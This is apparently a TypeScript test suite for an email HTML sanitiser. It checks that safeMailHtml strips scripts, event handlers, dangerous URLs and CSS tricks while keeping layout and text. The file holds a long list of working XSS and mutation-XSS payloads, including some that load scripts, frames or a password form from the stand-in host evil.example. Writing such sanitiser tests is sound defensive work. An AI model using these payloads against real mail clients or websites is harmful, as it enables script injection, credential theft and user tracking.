import { load } from 'cheerio';
import { parseDocument } from 'htmlparser2';
import { Element, type ChildNode } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { htmlMail, mailOfLines } from '../testing/mail-fixture.ts';
import { allowedElements } from './allow-list.ts';
import { safeMailHtml } from './safe-mail-html.ts';

/** Ways to run a script, to load something or to lead somewhere, many of them by what parsers make of odd markup. */
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:x onerror\n=alert(1)>',
  '<body onload=alert(1)>text</body>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="java\nscript:alert(1)">link</a>',
  '<a href="&#106;avascript:alert(1)">link</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">link</a>',
  '<a href=" \u0001javascript:alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="https://evil.example" target=_top onclick=alert(1)>link</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"><param name=x></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x codebase=https://evil.example></applet>',
  '<form action="https://evil.example"><input name=p type=password><button>Go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<isindex action=javascript:alert(1) type=image>',
  '<base href="https://evil.example/"><img src="logo.gif" alt="Logo">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url("https://evil.example/x.png")}</style>',
  '<div style="background:url(https://evil.example/x.png)">text</div>',
  '<div style="background-image:u\\72l(https://evil.example/x.png)">text</div>',
  '<div style="width:expression(alert(1))">text</div>',
  '<div style="width:exp/**/ression(alert(1))">text</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">text</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">text</div>',
  '<div style=\'font-family:"x;color:url(https://evil.example)"\'>text</div>',
  '<table background="https://evil.example/x.png"><tr><td>cell</td></tr></table>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php alert(1) ?>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<video poster=https://evil.example/p.png><source onerror=alert(1) src=x></video>',
  '<audio src=https://evil.example/a.mp3 autoplay onplay=alert(1)></audio>',
  '<img srcset="https://evil.example/x.png 2x" alt="two">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="cid:logo@fairwater" onload=alert(1) usemap="#m" id=x name=body>',
  '<div id="__proto__" class="evil" name="cookie">text</div>',
  '<p title="&quot;><script>alert(1)</script>">text</p>',
  "<p title='&#39; onmouseover=&#39;alert(1)'>text</p>",
  '<p/onmouseover=alert(1)>text',
  '<p `onmouseover=alert(1)`>text',
  '<p =onmouseover=alert(1)>text</p>',
  '<p "><script>alert(1)</script>">text</p>',
  '<td onmouseover=alert(1)>cell without a table',
  '<table><caption><svg><desc><table><style><img src=x onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<x-element constructor=x onclick=alert(1)>text</x-element>',
  '<portal src=https://evil.example></portal><dialog open>text</dialog>',
  `${'<div>'.repeat(2_000)}<script>alert(1)</script>`,
  '<b\u0000 onclick=alert(1)>text</b>',
  '<a href=\u2028javascript:alert(1)>link</a>',
];

const attributesAllowed =
  /^(?:style|title|dir|lang|align|valign|bgcolor|width|height|border|cellpadding|cellspacing|bordercolor|colspan|rowspan|span|nowrap|scope|abbr|summary|start|value|type|reversed|color|size|face|noshade|alt|hspace|vspace|src)$/;

/** What breaks the rules among elements of the body. */
function offences(elements: readonly { name: string; attributes: Record<string, string> }[]): string[] {
  return elements.flatMap(({ name, attributes }) => {
    const wrong = Object.entries(attributes).flatMap(([attribute, value]) => {
      if (!attributesAllowed.test(attribute)) return [`${name} has ${attribute}`];
      if (attribute === 'src' && !/^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*$/.test(value))
        return [`src ${value}`];
      if (attribute === 'style' && /url|expression|@|\\|position|behavior|binding|[<>{}]/i.test(value))
        return [`style ${value}`];
      return [];
    });
    return allowedElements.has(name) ? wrong : [`element ${name}`, ...wrong];
  });
}

function byParse5(html: string) {
  const $ = load(html);
  const head = $('head').children().toArray();
  return {
    head: head.map(({ name }) => name),
    body: $('body *')
      .toArray()
      .map((element) => ({ name: element.name, attributes: element.attribs })),
    bodyAttributes: Object.keys($('body').get(0)?.attribs ?? {}),
  };
}

function byHtmlparser2(html: string) {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const waiting: ChildNode[] = [...parseDocument(html).children];
  while (waiting.length > 0) {
    const node = waiting.pop()!;
    if (!(node instanceof Element)) continue;
    found.push({ name: node.name, attributes: node.attribs });
    waiting.push(...node.children);
  }
  return found;
}

describe('HTML of a mail made safe', () => {
  it.each(hostile.map((vector) => [vector.slice(0, 90), vector] as const))(
    'keeps nothing dangerous of %s',
    (_shown, vector) => {
      for (const around of [
        vector,
        `<p>Before ${vector} after</p>`,
        `<table><tr><td>${vector}</td></tr></table>`,
      ]) {
        const { html } = safeMailHtml(htmlMail(around));
        const parsed = byParse5(html);
        expect(offences(parsed.body)).toEqual([]);
        expect(parsed.head).toEqual(['meta', 'meta', 'meta', 'title', 'style']);
        expect(parsed.bodyAttributes).toEqual([]);
        const own = new Set(['html', 'head', 'meta', 'title', 'style', 'body']);
        const second = byHtmlparser2(html);
        expect(offences(second.filter(({ name }) => !own.has(name)))).toEqual([]);
        expect(
          second
            .filter(({ name }) => own.has(name))
            .map(({ name }) => name)
            .toSorted(),
        ).toEqual(['body', 'head', 'html', 'meta', 'meta', 'meta', 'style', 'title'].toSorted());
      }
    },
  );

  it('gives the same when made safe again', () => {
    for (const vector of hostile) {
      const once = safeMailHtml(htmlMail(`<div>${vector}</div>`)).html;
      const body = /<body>(.*)<\/body>/s.exec(once)![1]!;
      const twice = safeMailHtml(htmlMail(body)).html;
      expect(offences(byParse5(twice).body)).toEqual([]);
    }
  });

  it('keeps the words around whatever it drops', () => {
    const { html } = safeMailHtml(
      htmlMail(
        '<p>one</p><svg><text>two</text></svg><form>three <button>four</button></form><noscript>five</noscript>',
      ),
    );
    for (const word of ['one', 'two', 'three', 'four', 'five']) expect(html).toContain(word);
  });

  it('keeps the layout: tables, colors, alignment', () => {
    const { html } = safeMailHtml(
      htmlMail(
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td colspan="2" align="center" style="color: rgb(1, 2, 3); padding: 4px 8px">Outage</td></tr></table>',
      ),
    );
    expect(html).toContain('<table width="600" cellpadding="4" bgcolor="#eeeeee">');
    expect(html).toContain(
      '<td colspan="2" align="center" style="color:rgb(1, 2, 3);padding:4px 8px">Outage</td>',
    );
  });

  it('puts the mail’s own pictures in and counts those elsewhere, with their words', () => {
    const { html, remoteReferences } = safeMailHtml(
      htmlMail(
        '<img src="cid:logo@fairwater" alt="Logo" width="10"><img src="https://cdn.example/a.png" alt="Chart"><img src="https://track.example/p.gif" width="1" height="1">',
      ),
    );
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo');
    expect(html).toContain('alt="Logo" width="10">');
    expect(html).toContain('[picture not loaded: Chart]');
    expect(html).not.toContain('track.example');
    expect(remoteReferences).toBe(2);
  });

  it('shows where a link would lead and leads nowhere', () => {
    const { html } = safeMailHtml(htmlMail('<a href="https://bank.example/?a=1&amp;b=2">your account</a>'));
    expect(html).toContain('title="https://bank.example/?a=1&amp;b=2"');
    expect(html).not.toContain('href');
  });

  it('counts what styles and style sheets would load', () => {
    const { remoteReferences } = safeMailHtml(
      htmlMail(
        '<style>@import "https://a.example/x.css"; p{background:url(//b.example/x)}</style><link rel=stylesheet href=https://c.example/y.css><p style="background:url(https://d.example/z)">x</p>',
      ),
    );
    expect(remoteReferences).toBe(4);
  });

  it('shows a mail without HTML as its text', () => {
    const mail = mailOfLines('Subject: Plain', '', 'Line <one>', '  indented');
    expect(safeMailHtml(mail).html).toContain('<div class="text">Line &lt;one&gt;\n  indented</div>');
  });

  it('says so when a mail is too long to be shown', () => {
    const { html } = safeMailHtml(htmlMail('<b>x</b>'.repeat(310_000)));
    expect(html).toContain('too long to be shown');
  });
});
